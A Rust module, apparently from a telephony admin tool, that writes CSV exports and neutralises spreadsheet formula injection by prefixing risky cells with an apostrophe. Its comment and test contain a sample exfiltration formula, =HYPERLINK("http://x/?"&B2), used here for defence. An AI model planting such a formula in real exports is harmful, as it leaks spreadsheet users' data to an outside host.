//! Every CSV file Conjure hands out (phone users, import results, the audit log) is written here, because
//! people open them in a spreadsheet: quoting by the `csv` crate, and no cell that a spreadsheet would run
//! as a formula. Names, ids and messages come from users and from Asterisk, so a name such as
//! `=HYPERLINK("http://x/?"&B2)` must arrive as text.

/// A cell starting with one of these is a formula (or becomes one) in Excel, LibreOffice and Sheets.
const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// The cell as a spreadsheet must see it: with a leading `'` where it would start a formula (OWASP's
/// advice for CSV injection; the apostrophe is how spreadsheets themselves mark "this is text").
pub fn defused(cell: &str) -> std::borrow::Cow<'_, str> {
    if cell.starts_with(FORMULA_START) {
        format!("'{cell}").into()
    } else {
        cell.into()
    }
}

/// A whole file: the header, then the rows, each cell defused and quoted, CRLF line ends. Every cell is
/// quoted, not only those with a comma in them, so that a cell holding another separator (`2041;=1+1`)
/// stays one cell for a spreadsheet that guesses `;` or tab from the first cells it sees.
pub fn table<R, C>(header: &[&str], rows: R) -> Vec<u8>
where
    R: IntoIterator,
    R::Item: IntoIterator<Item = C>,
    C: AsRef<str>,
{
    let mut w = csv::WriterBuilder::new()
        .terminator(csv::Terminator::CRLF)
        .quote_style(csv::QuoteStyle::Always)
        .from_writer(Vec::new());
    // Writing to a Vec cannot fail.
    let _ = w.write_record(header.iter().map(|h| defused(h).into_owned()));
    for row in rows {
        let _ = w.write_record(row.into_iter().map(|c| defused(c.as_ref()).into_owned()));
    }
    w.into_inner().unwrap_or_default()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn read_back(bytes: &[u8]) -> Vec<Vec<String>> {
        csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(bytes)
            .records()
            .map(|r| r.unwrap().iter().map(str::to_string).collect())
            .collect()
    }

    #[test]
    fn formulas_arrive_as_text_and_quoting_survives_a_round_trip() {
        let name = r#"=HYPERLINK("http://x/?"&B2)"#;
        let rows = vec![
            vec![name, "2041;=1+1", "a,b\nc"],
            vec!["+1", "-2", "@SUM(A1)"],
            vec!["\tx", "\rx", "plain"],
        ];
        let bytes = table(&["name", "id", "note"], rows);
        let back = read_back(&bytes);
        assert_eq!(
            back[1],
            [format!("'{name}"), "2041;=1+1".into(), "a,b\nc".into()]
        );
        assert_eq!(back[2], ["'+1", "'-2", "'@SUM(A1)"]);
        assert_eq!(back[3], ["'\tx", "'\rx", "plain"]);
        let text = String::from_utf8(bytes).unwrap();
        assert!(text.starts_with("\"name\",\"id\",\"note\"\r\n"), "{text}");
        assert!(text.contains("\"2041;=1+1\""), "{text}");
        // No cell of the file starts a formula once a spreadsheet has split it.
        for row in &back {
            for cell in row {
                assert!(!cell.starts_with(FORMULA_START), "{cell:?}");
            }
        }
    }
}
